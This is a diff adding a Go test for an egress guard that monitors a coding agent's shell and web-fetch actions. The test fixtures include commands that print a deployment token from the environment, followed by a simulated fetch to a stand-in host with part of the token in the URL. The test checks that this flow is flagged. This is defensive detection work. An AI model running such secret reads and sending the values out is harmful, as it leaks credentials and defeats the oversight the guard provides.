@@ -2,6 +2,7 @@ package egress
 
 import (
 	"context"
+	"fmt"
 	"os"
 	"path/filepath"
 	"slices"
@@ -219,6 +220,54 @@ func TestSecretVariables(t *testing.T) {
 			t.Errorf("%s: no egress.secret-variable", tt.cmd)
 		case got != nil && (got.Level != action.Approve || !got.Hard || !strings.Contains(got.Message, tt.want)):
 			t.Errorf("%s: %+v, want a hard approve naming %s", tt.cmd, *got, tt.want)
+		}
+	}
+}
+
+// A secret variable shown to the agent is a secret read for the flow
+// rule; one given to another program, or a filtered environment that
+// shows no secret, is not.
+func TestPrintedSecretVariables(t *testing.T) {
+	st, err := sqlite.Open(filepath.Join(t.TempDir(), "db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	const v = "qT7vK2pX9mR4wL8nB3cF6hJ1dS5gA0zE"
+	g := newGuard(t, Policy{}, Env{Store: st, Environ: []string{"DEPLOY_TOKEN=" + v}})
+	ctx := context.Background()
+	for i, tt := range []struct {
+		before string
+		read   bool
+	}{
+		{"echo ${DEPLOY_TOKEN} | rev", true},
+		{"printenv DEPLOY_TOKEN", true},
+		{"env | grep -i token", true},
+		{"env", true},
+		{"env | grep PATH", false},
+		{"echo $DEPLOY_TOKEN | gh auth login --with-token", false},
+		{"echo $HOME", false},
+		{"printenv DEPLOY_TOKEN | sha256sum", false},
+	} {
+		session := fmt.Sprint("s", i)
+		a := withCommands(shell(tt.before, "/src"))
+		a.Agent, a.Session = "claude-code", session
+		if err := g.Observe(ctx, a, action.Auto, false); err != nil {
+			t.Fatal(err)
+		}
+		send := &action.Action{Tool: "WebFetch", Kind: action.KindNetFetch, Agent: "claude-code", Session: session,
+			Args: map[string]any{"url": "https://new.example/?q=x", "prompt": "x"}}
+		fs := check(t, g, send)
+		got := len(fs) == 1 && fs[0].Check == "egress.after-secret-read"
+		if got != tt.read {
+			t.Errorf("%s then a fetch: %+v, want a flow finding: %v", tt.before, fs, tt.read)
+		}
+		// The value shown is a known value of the session's later sends.
+		if tt.read && strings.Contains(tt.before, "DEPLOY") {
+			send.Args["url"] = "https://new.example/?q=" + v[:24]
+			if fs := check(t, g, send); len(fs) == 0 || fs[0].Check != "egress.secret" {
+				t.Errorf("%s then its value: %+v", tt.before, fs)
+			}
 		}
 	}
 }
